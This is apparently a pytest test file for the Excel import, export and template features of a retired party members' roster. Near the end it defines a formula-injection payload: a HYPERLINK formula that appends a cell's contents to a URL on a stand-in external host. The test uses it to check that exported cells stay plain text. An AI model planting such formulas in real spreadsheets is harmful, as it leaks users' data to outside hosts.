"""Excel import (mixed good and bad rows, a re-import, progress), the template and the export."""
import base64
import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from members import excel
from members.handlers import committees, imports, roster
from members.domain.roster import id_number_for
from members.models import Base, ImportJob
from wuji_infra.clock import FixedClock
from wuji_infra.errors import InvalidInput, NotFound
from wuji_infra.testing import emitted_events, in_memory_store

BRANCH = "机关第一离退休党支部"
CLOCK = FixedClock(dt.date(2026, 11, 26))



def workbook(rows, headings=None):
    book = Workbook()
    sheet = book.active
    sheet.append(headings or excel.HEADINGS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return base64.b64encode(buffer.getvalue()).decode("ascii")


def row(name="张建国", gender="男", id_number=None, born=dt.date(1942, 3, 15), branch=BRANCH, kind="退休", **cells):
    values = dict.fromkeys(excel.HEADINGS)
    values.update({"姓名": name, "性别": gender, "身份证号": id_number or id_number_for(born, 1), "出生日期": born,
                   "党支部": branch, "离退休类别": kind})
    values.update(cells)
    return [values[h] for h in excel.HEADINGS]


@pytest.fixture
def store():
    store = in_memory_store("members", Base.metadata)
    with store.transaction() as tx:
        committees.create_branch(tx, {"name": BRANCH, "unit": "市住房和城乡建设局"})
    return store


def run(store, content, chunk_rows=2):
    with store.transaction() as tx:
        job = imports.start_import(tx, content, "名册.xlsx", "clerk1")
    assert job["status"] == "queued" and job["progress"] == 0
    assert imports.run_next_import(store, chunk_rows, clock=CLOCK) == job["id"]
    with store.read() as session:
        return imports.get_import(session, job["id"])


def errors(store, job_id):
    with store.read() as session:
        return imports.list_import_errors(session, job_id, None, 1, 500)["items"]


def members(store):
    with store.read() as session:
        return roster.list_members(session, {}, 1, 500)["items"]


def test_good_rows_are_imported_and_bad_rows_listed_by_row_and_column(store):
    rows = [
        row("张建国", id_number=id_number_for(dt.date(1942, 3, 15), 1), **{"月养老金(元)": 6200.5, "专长": "城市规划、书法",
                                                                  "独居": "是", "愿意发挥作用": "是"}),
        row("李秀英", gender="女", id_number="11010519491231002X", born="1949-12-31", **{"组织关系": "转入社区",
                                                                                      "所在社区": "北山社区"}),
        row("王错号", id_number=id_number_for(dt.date(1940, 1, 1), 3)[:-1] + "0", born=dt.date(1940, 1, 1)),   # wrong check digit
        row("赵生日", id_number=id_number_for(dt.date(1940, 1, 1), 4), born=dt.date(1941, 1, 1)),             # birth date mismatch
        row("钱支部", id_number=id_number_for(dt.date(1943, 1, 1), 5), born=dt.date(1943, 1, 1), branch="不存在支部"),
        row("孙多错", gender="未知", id_number=id_number_for(dt.date(1944, 1, 1), 6), born=dt.date(1944, 1, 1),
            **{"独居": "也许", "组织关系": "转入社区"}),
        row("周数字", id_number=330106194501010070, born=dt.date(1945, 1, 1)),                         # typed as a number
        row("张重复", id_number=id_number_for(dt.date(1942, 3, 15), 1)),                                      # repeats row 2
        row("吴缺项", kind=None, id_number=id_number_for(dt.date(1946, 1, 1), 8), born=dt.date(1946, 1, 1)),
    ]
    job = run(store, workbook(rows))
    assert (job["status"], job["total_rows"], job["processed_rows"], job["progress"]) == ("done", 9, 9, 100)
    assert (job["created"], job["updated"], job["rejected"]) == (2, 0, 7)

    imported = {m["name"]: m for m in members(store)}
    assert set(imported) == {"张建国", "李秀英"}
    assert imported["张建国"]["pension_monthly"] == "6200.50" and imported["张建国"]["specialties"] == ["城市规划", "书法"]
    assert imported["张建国"]["lives_alone"] is True and imported["张建国"]["willing_to_serve"] is True
    assert imported["李秀英"]["id_number"] == "11010519491231002X" and imported["李秀英"]["community"] == "北山社区"

    found = {(e["row"], e["column"]) for e in errors(store, job["id"])}
    assert found == {
        (4, "身份证号"), (5, "身份证号"), (6, "党支部"), (7, "性别"), (7, "独居"),
        (8, "身份证号"), (9, "身份证号"), (10, "离退休类别"),
    }
    reasons = {(e["row"], e["column"]): e["reason"] for e in errors(store, job["id"])}
    assert "校验位" in reasons[(4, "身份证号")] and "不一致" in reasons[(5, "身份证号")]
    assert "文本" in reasons[(8, "身份证号")] and "第 2 行" in reasons[(9, "身份证号")]
    assert [e.event_type for e in emitted_events(store)] == ["member_registered", "member_registered"]
    with store.read() as session:
        history = roster.member_history(session, imported["张建国"]["id"])["items"]
    assert (history[0]["reason"], history[0]["changed_by"]) == ("import", "clerk1")


def test_the_rejected_rows_download_as_a_workbook_with_their_reasons(store):
    job = run(store, workbook([row("好人"), row("坏人", gender="?", id_number=id_number_for(dt.date(1940, 5, 5), 2),
                                                born=dt.date(1940, 5, 5))]))
    with store.read() as session:
        content = base64.b64decode(imports.import_errors_workbook(session, job["id"]))
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "原行号" and rows[0][-1] == "错误原因"
    assert len(rows) == 2 and rows[1][0] == 3 and rows[1][1] == "坏人" and "性别" in rows[1][-1]


def test_a_re_import_updates_the_member_with_that_id_number(store):
    first = run(store, workbook([row("张建国", **{"联系电话": "0571-1111111"})]))
    assert first["created"] == 1
    [member] = members(store)
    again = run(store, workbook([
        row("张建国", **{"联系电话": "13900001111", "组织关系": "转入社区", "所在社区": "北山社区"}),
        row("新党员", id_number=id_number_for(dt.date(1950, 6, 6), 2), born=dt.date(1950, 6, 6)),
    ]))
    assert (again["created"], again["updated"], again["rejected"]) == (1, 1, 0)
    updated = {m["name"]: m for m in members(store)}["张建国"]
    assert updated["id"] == member["id"] and updated["phone"] == "13900001111" and updated["org_relation"] == "community"
    assert len(members(store)) == 2
    kinds = [e.event_type for e in emitted_events(store)]
    assert kinds.count("member_updated") == 1 and kinds.count("member_transferred") == 1
    with store.read() as session:
        history = roster.member_history(session, member["id"])["items"]
    assert {(h["field"], h["new_value"]) for h in history if h["reason"] == "import" and h["field"] != "*"} == {
        ("phone", "13900001111"), ("org_relation", "community"), ("community", "北山社区")}
    unchanged = run(store, workbook([row("张建国", **{"联系电话": "13900001111", "组织关系": "转入社区",
                                                       "所在社区": "北山社区"})]))
    assert unchanged["updated"] == 1 and [e.event_type for e in emitted_events(store)] == kinds  # nothing new said


def test_a_job_resumes_after_the_last_committed_chunk(store):
    rows = [row(f"党员{i}", id_number=id_number_for(dt.date(1945, 1, 1), i), born=dt.date(1945, 1, 1)) for i in range(1, 6)]
    with store.transaction() as tx:
        job = imports.start_import(tx, workbook(rows), "x.xlsx")
    calls = {"n": 0}
    real = imports._import_chunk

    def crash_on_second_chunk(*args):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("process killed")
        return real(*args)

    imports._import_chunk = crash_on_second_chunk
    try:
        with pytest.raises(RuntimeError):
            imports.run_next_import(store, chunk_rows=2, clock=CLOCK)
    finally:
        imports._import_chunk = real
    with store.read() as session:
        halfway = imports.get_import(session, job["id"])
    assert (halfway["status"], halfway["processed_rows"], halfway["progress"], halfway["created"]) == ("running", 2, 40, 2)
    imports.run_import(store, job["id"], chunk_rows=2, clock=CLOCK)
    with store.read() as session:
        done = imports.get_import(session, job["id"])
    assert (done["status"], done["created"], done["rejected"]) == ("done", 5, 0)
    assert len(members(store)) == 5
    with store.read() as session:
        assert session.get(ImportJob, job["id"]).content == b""   # the file is not kept once imported


def test_files_that_are_not_rosters_are_refused_at_once(store):
    for content, reason in [
        (base64.b64encode(b"not a workbook").decode(), "xlsx"),
        (workbook([], headings=["姓名", "性别"]), "身份证号"),
        ("", "必填"),
        ("%%%", "base64"),
    ]:
        with pytest.raises(InvalidInput) as error:
            with store.transaction() as tx:
                imports.start_import(tx, content)
        assert "file" in error.value.fields
        assert reason in str(error.value.fields["file"])
    assert imports.run_next_import(store, clock=CLOCK) is None
    with store.read() as session:
        with pytest.raises(NotFound):
            imports.get_import(session, 42)


def test_the_template_imports_as_it_is(store):
    job = run(store, imports.import_template())
    assert (job["created"], job["rejected"]) == (1, 0)
    [member] = members(store)
    assert member["id_number"] == "11010519491231002X" and member["specialties"] == ["城市规划", "书法"]


def test_the_export_holds_the_filtered_roster_and_reads_back_in(store):
    run(store, workbook([
        row("张建国", **{"专长": "书法"}),
        row("李秀英", gender="女", id_number=id_number_for(dt.date(1947, 2, 2), 2), born=dt.date(1947, 2, 2),
            **{"组织关系": "转入社区", "所在社区": "北山社区"}),
    ]))
    with store.read() as session:
        content = base64.b64decode(imports.export_members(session, {"org_relation": "community"}))
        everyone = base64.b64decode(imports.export_members(session, {}))
        with pytest.raises(InvalidInput):
            imports.export_members(session, {"colour": "red"})
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("姓名", "性别", "身份证号") and rows[0][-1] == "状态"
    assert [r[0] for r in rows[1:]] == ["李秀英"]
    assert rows[1][1] == "女" and rows[1][4] == BRANCH and rows[1][11] == "转入社区" and rows[1][-1] == "在册"
    # the export is a valid import: it updates the same two members
    job = run(store, base64.b64encode(everyone).decode())
    assert (job["created"], job["updated"], job["rejected"]) == (0, 2, 0)


FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'


def sheet_xml(content):
    import zipfile
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


@pytest.mark.parametrize("build", [
    lambda: excel.export([[FORMULA, "男", None, 3, "@SUM(1)"]]),
    lambda: excel.rejected(["姓名", "性别"], [(2, [FORMULA, "+1"], {"姓名": ["不能为公式"]})]),
])
def test_text_that_looks_like_a_formula_is_written_as_text(build):
    content = build()
    assert "<f>" not in sheet_xml(content)
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert FORMULA in [cell.value for cell in texts]
    assert all(cell.data_type == "s" for cell in texts)
